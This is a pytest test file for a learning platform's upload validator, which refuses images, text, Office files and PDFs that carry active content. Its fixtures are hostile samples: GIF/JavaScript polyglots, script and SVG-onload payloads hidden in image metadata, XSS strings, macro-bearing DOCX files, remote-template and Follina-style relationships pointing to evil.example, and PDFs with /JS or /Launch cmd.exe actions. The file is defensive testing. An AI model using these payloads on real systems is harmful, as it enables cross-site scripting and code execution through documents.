"""Uploads of an accepted type that carry active content are refused, saying what and where.

Each hostile file is built here from the small real files of ``tests.samples``: a GIF that is
also JavaScript, a JPEG with a web page in a comment or after its end, text with a script on
line 40, a DOCX with a macro project, a PDF that runs JavaScript. The harmless look-alikes
next to them (a printer-settings ``.bin``, a chart's embedded workbook, prose about
"JavaScript: the good parts") must still pass.
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms_core.assignments import file_types as ft
from lms_core.assignments.files import Upload, upload_file
from lms_core.errors import ValidationError
from lms_core.settings import Settings
from tests import samples
from tests.cli.helpers import db_state
from tests.helpers import as_


def refusal(data: bytes) -> str:
    with pytest.raises(ValidationError) as caught:
        ft.detect(data)
    assert caught.value.field == "file"
    return caught.value.message


# -- images -------------------------------------------------------------------------------


def gif_comment(text: bytes) -> bytes:
    """samples.GIF with a comment extension (``!\\xfe``) before its trailer."""
    return samples.GIF[:-1] + b"!\xfe" + bytes([len(text)]) + text + b"\x00;"


def jpeg_segment(marker: int, payload: bytes) -> bytes:
    """samples.JPEG with one more segment right after SOI (a COM is 0xFE)."""
    segment = bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload
    return samples.JPEG[:2] + segment + samples.JPEG[2:]


def chunk(kind: bytes, payload: bytes) -> bytes:
    crc = struct.pack(">I", zlib.crc32(kind + payload))
    return struct.pack(">I", len(payload)) + kind + payload + crc


#: A valid 1x1 PNG (samples.PNG's IDAT is one byte short: its walk ends early).
PNG = (
    b"\x89PNG\r\n\x1a\n"
    + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
    + chunk(b"IEND", b"")
)


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    """PNG with one more chunk before IEND."""
    return PNG[:-12] + chunk(kind, payload) + PNG[-12:]


GIF_JS_POLYGLOT = (
    b"GIF89a/*\x0a\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    b"*/=alert(document.domain);"
)
JPEG_SCAN_WITH_IFRAME = (
    samples.JPEG[:-2]
    + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00"  # start of scan, then "entropy-coded" data
    + b"\x12\x34<iframe src=//evil.example></iframe>\x56"
    + b"\xff\xd9"
)

#: ``GIF89a=/*...*/0;top['al'+'ert'](1)//``: an assignment whose value opens a comment.
GIF_ASSIGN_POLYGLOT = (
    b"GIF89a=/*\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    b"*/0;top['al'+'ert'](1)//"
)
JPEG_SCAN_WITH_SVG = JPEG_SCAN_WITH_IFRAME.replace(
    b"<iframe src=//evil.example></iframe>", b"<svg/onload=import('//e/x.js')>"
)


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (GIF_JS_POLYGLOT, "GIF/JavaScript polyglot"),
        (b"GIF89a=1;alert(1)//" + samples.GIF[19:], "GIF/JavaScript polyglot"),
        (gif_comment(b"<script>alert(1)</script>"), "'<script' at byte 45, in its metadata"),
        (samples.GIF + b"<svg onload=alert(1)>", "'<svg' at byte 43, after the end of the image"),
        (jpeg_segment(0xFE, b"<svg/onload=alert(1)>"), "'<svg' at byte 6, in its metadata"),
        (jpeg_segment(0xE1, b"Exif\x00\x00<BODY onload=x()>"), "'<body' at byte 12"),
        (samples.JPEG + b"<html><script>alert(1)</script>", "after the end of the image"),
        (JPEG_SCAN_WITH_IFRAME, "'<iframe' at byte 32"),
        (png_chunk(b"tEXt", b"Comment\x00<img src=x onerror=alert(1)>"), "in its metadata"),
        (PNG + b"\n<ScRiPt>fetch('//x')</sCrIpT>", "after the end of the image"),
        (samples.WEBP + b"<a href='javascript:alert(1)'>", "'javascript:alert(1)"),
        (GIF_ASSIGN_POLYGLOT, "GIF/JavaScript polyglot"),
        (
            png_chunk(b"IDAT", b"\x01<img src=x onerror=import('//e')>\x02"),
            "<img src=x onerror=import(",
        ),
        (JPEG_SCAN_WITH_SVG, "<svg/onload=import("),
    ],
)
def test_image_polyglots_are_refused(data: bytes, says: str) -> None:
    message = refusal(data)
    assert says in message
    assert "refused" in message


@pytest.mark.parametrize(
    "data",
    [
        samples.GIF,
        samples.JPEG,
        samples.PNG,
        PNG,
        samples.WEBP,
        gif_comment(b"made with GIMP <3"),
        jpeg_segment(0xFE, b"Holiday photo: red alert (drill) in the document."),
        png_chunk(b"tEXt", b"Software\x00Python <https://python.org>"),
        samples.JPEG + b"\x00" * 64,  # padding after EOI, as some cameras write
        b"GIF89a=\x01" + samples.GIF[8:],  # 317 pixels wide: "=" then a control byte, not JS
        b"GIF89a\x3d\x00" + samples.GIF[8:],  # 61 pixels wide: "=" then NUL, not a script
    ],
)
def test_harmless_images_pass(data: bytes) -> None:
    assert ft.detect(data).ext in ("gif", "jpg", "png", "webp")


def test_pillow_images_pass() -> None:
    """Real encoder output, noise included (where short tags could turn up by chance)."""
    import random

    from PIL import Image

    rng = random.Random(11)  # noqa: S311 - test noise, seeded
    for fmt in ("PNG", "JPEG", "GIF", "WEBP"):
        for _ in range(5):
            w, h = rng.randint(1, 300), rng.randint(1, 200)
            image = Image.frombytes("RGB", (w, h), rng.randbytes(w * h * 3))
            buffer = io.BytesIO()
            image.save(buffer, fmt)
            assert ft.detect(buffer.getvalue()) in (ft.PNG, ft.JPEG, ft.GIF, ft.WEBP)


# -- text ---------------------------------------------------------------------------------

PROSE = b"A line of the essay, with 3 < 4 and x > y.\n" * 40


@pytest.mark.parametrize(
    ("tail", "shown"),
    [
        (b"<ScRiPt>alert(1)</script>", "<script"),
        (b"<iframe src=//x>", "<iframe"),
        (b"<svg/onload=alert(1)>", "<svg"),
        (b"<HTML>", "<html"),
        (b"<body onload=x()>", "<body"),
        (b"<object data=x>", "<object"),
        (b"<embed src=x>", "<embed"),
        (b'<meta http-equiv="refresh" content="0;url=//x">', "<meta http-equiv"),
        (b"<!DOCTYPE html>", "<!doctype html"),
        (b"<img src=x onerror=alert(1)>", "<img src=x onerror="),
        (b"click javascript:alert(1)", "javascript:alert(1)"),
        (b'<a href = "JavaScript: alert(1)">', "javascript: alert("),
        (b"<img\nsrc=x\nonerror=alert(1)>", "<img src=x onerror="),
        (b'<img alt=">" src=x onerror=alert(1)>', '<img alt=">" src=x'),
        (b"<img src=x onerror=alert(1)\n>", "<img src=x onerror="),
        (b'<x:script xmlns:x="http://www.w3.org/1999/xhtml">', "<x:script"),
        (b'<a href="java\tscript:alert(1)">', "javascript:alert(1)"),
        (b"<a href='jav\na\r\nscript:alert(1)'>x</a>", "javascript:alert(1)"),
        (b'<img title="a<b" src=x onerror=alert(1)>', '<img title="a<b"'),
    ],
)
def test_markup_further_down_in_text_is_refused(tail: bytes, shown: str) -> None:
    message = refusal(PROSE + tail + b"\nmore prose\n")
    assert f"'{shown}" in message.lower()
    assert "on line 41" in message and "refused" in message


@pytest.mark.parametrize(
    "text",
    [
        PROSE,
        b"Read 'JavaScript: the good parts' first.\n",
        b"if a<b and c>d: print('<stdin>')\n",
        b"Ann <ann@example.org> wrote: x<y, y>z\n",
        b"for i in range(3):\n    print(i)\n",
        b"List<Object> xs = new ArrayList<>(); Map<Base, Frame> m;\n",
        b"while i <n:\n    ongoing = True\n",
        b"if a <b and c>d:\n    online = True\n",
        b"for (i = 0; i<n; i++) {\n    onset = 1;\n    p->x = 2;\n}\n",
        b"Java\nScript: the good parts, a review\n",
    ],
)
def test_text_that_only_looks_like_markup_passes(text: bytes) -> None:
    assert ft.detect(text) is ft.TEXT


# -- office documents ---------------------------------------------------------------------

DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
PPTX_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"


def office(main: str, part: str, extra: dict[str, bytes], types: str = "") -> bytes:
    manifest = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'content-types">{types}<Override PartName="/{part}" ContentType="{main}"/></Types>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", manifest)
        archive.writestr(part, "<doc/>")
        for name, content in extra.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def odt(extra: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", ft.ODT.mime)
        archive.writestr("content.xml", "<x/>")
        for name, content in extra.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def rels(rel_type: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships/{rel_type}" Target="{target}"{mode}/></Relationships>'
    ).encode()


#: Remote template injection: Word fetches and runs a macro-enabled template when opened.
TEMPLATE = rels("attachedTemplate", "https://evil.example/t.dotm")
#: Follina (CVE-2022-30190): an external OLE object loaded through mhtml:.
FOLLINA = rels("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x")
UNC = rels("hyperlink", "\\\\evil.example\\share\\x.docx")
#: altChunk: a part Word imports as a web page (or RTF) when it opens the document.
CHUNK = rels("aFChunk", "afchunk1.docx", "")
HYPERLINK = rels("hyperlink", "https://example.org/?a=1&amp;b=2")
BIG_MANIFEST = (
    b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
    + b" " * (1 << 20)
    + b'<manifest:file-entry manifest:full-path="Object 1" '
    b'manifest:media-type="application/vnd.sun.star.oleobject"/></manifest:manifest>'
)
VBA_TYPE = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (office(DOCX_MAIN, "word/document.xml", {"word/vbaProject.bin": b"\xd0\xcf"}), "macros"),
        (office(DOCX_MAIN, "word/document.xml", {"Word/VBAPROJECT.BIN": b"x"}), "VBAPROJECT"),
        (office(XLSX_MAIN, "xl/workbook.xml", {"xl/vbaProject.bin": b"x"}), "Excel workbook"),
        (office(PPTX_MAIN, "ppt/p.xml", {"ppt/embeddings/oleObject1.bin": b"x"}), "oleObject1"),
        (office(DOCX_MAIN, "word/document.xml", {"word/media/setup.exe": b"MZ"}), "setup.exe"),
        (office(DOCX_MAIN, "word/document.xml", {"word/embeddings/x.docm": b"x"}), "x.docm"),
        (office(DOCX_MAIN, "word/document.xml", {"run.HTA": b"x"}), "run.HTA"),
        (office(XLSX_MAIN, "xl/workbook.xml", {"xl/macrosheets/sheet1.xml": b"x"}), "macros"),
        (office(XLSX_MAIN, "xl/workbook.xml", {"xl/activeX/activeX1.xml": b"x"}), "activeX1"),
        (office(DOCX_MAIN, "word/document.xml", {}, VBA_TYPE), "declares vbaProject"),
        (odt({"Basic/Standard/Module1.xml": b"<x/>"}), "OpenDocument text with macros"),
        (odt({"Scripts/python/run.py": b"x"}), "embedded program"),
        (office(DOCX_MAIN, "word/document.xml", {"word/afchunk.mht": b"x"}), "afchunk.mht"),
        (office(DOCX_MAIN, "word/document.xml", {"word/page.HTML": b"x"}), "page.HTML"),
        (
            office(DOCX_MAIN, "word/document.xml", {"word/_rels/settings.xml.rels": TEMPLATE}),
            "attachedTemplate",
        ),
        (
            office(DOCX_MAIN, "word/document.xml", {"word/_rels/document.xml.rels": FOLLINA}),
            "mhtml",
        ),
        (office(DOCX_MAIN, "word/document.xml", {"word/_rels/document.xml.rels": UNC}), "\\\\evil"),
        (
            office(DOCX_MAIN, "word/document.xml", {"word/_rels/document.xml.rels": CHUNK}),
            "aFChunk",
        ),
        (odt({"META-INF/manifest.xml": BIG_MANIFEST}), "manifest"),
        (odt({"Object 1": b"\xd0\xcf\x11\xe0"}), "Object 1"),
    ],
)
def test_office_documents_that_run_code_are_refused(data: bytes, says: str) -> None:
    message = refusal(data)
    assert says in message
    assert "documents that can run code are refused" in message


@pytest.mark.parametrize(
    "data",
    [
        office(XLSX_MAIN, "xl/workbook.xml", {"xl/printerSettings/printerSettings1.bin": b"x"}),
        office(DOCX_MAIN, "word/document.xml", {"word/embeddings/Workbook1.xlsx": b"PK"}),
        office(DOCX_MAIN, "word/document.xml", {"word/media/image1.png": samples.PNG}),
        odt({"Basic/script-lc.xml": b"<x/>", "Object 1/content.xml": b"<chart/>"}),
        odt({"ObjectReplacements/Object 1": b"\x01\x00\x00\x00", "Object 1/styles.xml": b"x"}),
        office(DOCX_MAIN, "word/document.xml", {"word/_rels/document.xml.rels": HYPERLINK}),
        office(DOCX_MAIN, "word/document.xml", {"_rels/.rels": rels("image", "media/a.png", "")}),
    ],
)
def test_office_documents_without_code_pass(data: bytes) -> None:
    assert ft.detect(data) in (ft.DOCX, ft.XLSX, ft.ODT)


def test_a_workbook_written_by_openpyxl_with_a_web_link_passes() -> None:
    """Real writer output: relationship parts, an external (hyperlink) target, a formula."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"] = "notes"
    sheet["A1"].hyperlink = "https://example.org/a?b=1&c=2"
    sheet["A2"] = "=SUM(1,2)"
    buffer = io.BytesIO()
    book.save(buffer)
    assert ft.detect(buffer.getvalue()) is ft.XLSX


def test_an_office_document_with_two_parts_of_one_name_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, pytest.warns(UserWarning):
        archive.writestr("[Content_Types].xml", f'<Types ContentType="{DOCX_MAIN}"/>')
        archive.writestr("word/document.xml", "<doc/>")
        archive.writestr("word/document.xml", "<other/>")
    assert "two files named" in refusal(buffer.getvalue())


# -- PDF ----------------------------------------------------------------------------------


def pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, o) for n, o in enumerate(objects, 2))
    return samples.PDF.replace(b"trailer", body + b"trailer")


def object_stream(content: bytes, header: bytes = b"/Filter /FlateDecode") -> bytes:
    packed = zlib.compress(content) if b"Flate" in header else content
    return b"<< /Type /ObjStm /N 1 /First 4 %s /Length %d >>\nstream\n%s\nendstream" % (
        header,
        len(packed),
        packed,
    )


HIDDEN = b"3 0 << /OpenAction << /JS (app.alert(1)) >> >>"


def packed_stream(
    content: bytes, filters: list[bytes], extra: bytes = b"", kind: bytes = b"/Type /ObjStm"
) -> bytes:
    """An object stream (``N 0 obj`` included) encoded with ``filters``, in decoding order."""
    packed = content
    for name in reversed(filters):
        if b"Fl" in name:
            packed = zlib.compress(packed)
        elif b"AHx" in name or b"ASCIIHex" in name:
            packed = packed.hex().encode() + b">"
        elif b"A85" in name or b"ASCII85" in name:
            packed = base64.a85encode(packed) + b"~>"
    return b"<< %s /N 1 /First 4 %s /Filter [%s] /Length %d >>\nstream\n%s\nendstream" % (
        kind,
        extra,
        b" ".join(filters),
        len(packed),
        packed,
    )


def _png_sub(row: bytes) -> bytes:
    return b"\x01" + bytes((row[i] - (row[i - 1] if i else 0)) % 256 for i in range(len(row)))


#: A PNG predictor (Sub) hides "/JS" from a plain inflate; readers undo it.
PREDICTED = (
    packed_stream(b"", [b"/FlateDecode"])
    .replace(zlib.compress(b""), zlib.compress(_png_sub(HIDDEN)))
    .replace(b"/Length", b"/DecodeParms << /Predictor 11 /Columns %d >> /Length" % len(HIDDEN))
)


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "JavaScript (/JavaScript action)"),
        (pdf(b"<< /OpenAction << /JS (app.alert(1)) >> >>"), "JavaScript (/JS)"),
        (pdf(b"<< /S /J#61vaScript /JS <616c657274> >>"), "/JavaScript action"),
        (pdf(b"<< /S /Launch /F (cmd.exe) >>"), "a /Launch action"),
        (pdf(b"<< /Type /EmbeddedFile /Length 0 >>"), "an attached file"),
        (pdf(object_stream(b"3 0 << /S /JavaScript /JS (x) >>")), "/JavaScript action"),
        (pdf(object_stream(b"3 0 << /JS (x) >>")), "JavaScript (/JS)"),
        (pdf(object_stream(b"x", b"/Filter /LZWDecode")), "cannot be checked"),
        (pdf(b"<< /AcroForm << /XFA 5 0 R /Fields [] >> >>"), "XFA"),
        (pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"), "/SubmitForm"),
        (pdf(b"<< /S /ImportData /F (data.fdf) >>"), "/ImportData"),
        (pdf(b"<< /S /GoToE /T << /R /C /N (x) >> >>"), "/GoToE"),
        (pdf(packed_stream(HIDDEN, [b"/ASCIIHexDecode", b"/FlateDecode"])), "JavaScript (/JS)"),
        (pdf(packed_stream(HIDDEN, [b"/FlateDecode", b"/ASCIIHexDecode"])), "JavaScript (/JS)"),
        (pdf(packed_stream(HIDDEN, [b"/A85", b"/Fl"])), "JavaScript (/JS)"),
        (pdf(packed_stream(HIDDEN, [b"/FlateDecode"], b"/Pad (%s)" % (b"x" * 3000))), "(/JS)"),
        (pdf(packed_stream(HIDDEN, [b"/FlateDecode"], b"", b"")), "JavaScript (/JS)"),
        (pdf(packed_stream(b"3 0 << /XFA 9 0 R >>", [b"/FlateDecode"])), "XFA"),
        (pdf(packed_stream(HIDDEN, [b"/FlateDecode", b"/DCTDecode"])), "cannot be checked"),
        (pdf(PREDICTED), "cannot be checked"),
    ],
)
def test_pdf_with_scripts_or_actions_is_refused(data: bytes, says: str) -> None:
    message = refusal(data)
    assert says in message
    assert "PDF uploads with scripts" in message or "cannot be checked" in message


def test_pdf_without_actions_passes() -> None:
    from fpdf import FPDF

    document = FPDF()
    document.add_page()
    document.set_font("helvetica")
    document.cell(text="JavaScript: /JS is a name, not an action, in a text line")
    assert ft.detect(bytes(document.output())) is ft.PDF
    # "/JS" inside stream data (a font, an image) is chance, not an action.
    stream = b"<< /Length 9 >>\nstream\n\x01/JS \x02\x03\x04\nendstream"
    assert ft.detect(pdf(stream, object_stream(b"3 0 << /Type /Page >>"))) is ft.PDF


def test_real_pdfs_with_fonts_images_and_object_streams_pass() -> None:
    """fpdf2 (the certificates' writer) with an embedded font and an image, then pypdf."""
    from fpdf import FPDF
    from PIL import Image
    from pypdf import PdfReader, PdfWriter

    from lms_core.certificates.pdf.fonts import bundled_fonts

    document = FPDF()
    document.add_page()
    document.add_font(
        "DejaVu", "", str(next(f.path for f in bundled_fonts() if "DejaVuSans." in str(f.path)))
    )
    document.set_font("DejaVu", size=14)
    document.multi_cell(0, text="Réponse : /JS et /XFA ne sont ici que du texte. " * 40)
    picture = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 10, 10)).save(picture, "PNG")
    document.image(picture, x=10, y=200, w=40)
    written = bytes(document.output())
    assert ft.detect(written) is ft.PDF
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(written)))
    writer.add_metadata({"/Title": "Essay"})
    writer.compress_identical_objects()
    again = io.BytesIO()
    writer.write(again)
    assert ft.detect(again.getvalue()) is ft.PDF
    # Streams of other types (an image, a font) are never read as objects: an unexpandable
    # chain there is fine, and so is an object stream of harmless objects in a filter chain.
    image = packed_stream(b"\xff\xd8", [b"/FlateDecode", b"/DCTDecode"], b"", b"/Subtype /Image")
    harmless = packed_stream(b"3 0 << /Type /Page >>", [b"/ASCIIHexDecode", b"/FlateDecode"])
    assert ft.detect(pdf(image.replace(b"/N 1 /First 4 ", b""), harmless)) is ft.PDF


# -- through the upload service -----------------------------------------------------------


@pytest.fixture
def fsettings(settings: Settings, tmp_path: Path) -> Settings:
    return settings.model_copy(update={"files_dir": tmp_path / "files", "max_upload_mb": 1})


def test_a_refused_upload_names_the_file_and_stores_nothing(
    session: Any, fsettings: Settings, learner: Any
) -> None:
    before = db_state(session)
    with pytest.raises(ValidationError) as caught:
        upload_file(
            session,
            actor=as_(learner),
            settings=fsettings,
            upload=Upload("cat.gif", GIF_JS_POLYGLOT),
        )
    assert caught.value.message.startswith("cat.gif is a GIF whose header reads as JavaScript")
    assert (caught.value.field, caught.value.value) == ("file", "cat.gif")
    assert db_state(session) == before
    assert not fsettings.files_dir.exists() or not any(fsettings.files_dir.rglob("*.*"))


# -- robustness ---------------------------------------------------------------------------

SEEDS = [PNG, samples.JPEG, JPEG_SCAN_WITH_IFRAME, samples.GIF, gif_comment(b"hi"), samples.WEBP]
SEEDS += [pdf(object_stream(b"3 0 << /Type /Page >>")), samples.DOCX, samples.ODT, PROSE]
SEEDS += [
    pdf(packed_stream(b"3 0 << /Type /Page >>", [b"/ASCII85Decode", b"/FlateDecode"])),
    office(DOCX_MAIN, "word/document.xml", {"word/_rels/document.xml.rels": HYPERLINK}),
    b'<a title="x>y" href=#>' + PROSE,
]


@settings(max_examples=300, deadline=None, derandomize=True)
@given(
    st.sampled_from(SEEDS),
    st.lists(st.tuples(st.integers(0, 300), st.binary(max_size=6)), max_size=4),
    st.integers(0, 400),
)
def test_mangled_files_are_typed_or_refused_never_a_crash(
    seed: bytes, edits: list[tuple[int, bytes]], cut: int
) -> None:
    """Walkers over damaged structures (lengths past the end, zero lengths) stay in bounds."""
    data = bytearray(seed)
    for at, junk in edits:
        data[at : at + len(junk)] = junk
    try:
        ft.detect(bytes(data[: max(1, len(data) - cut)]))
    except ValidationError as refused:
        assert refused.field == "file" and refused.message
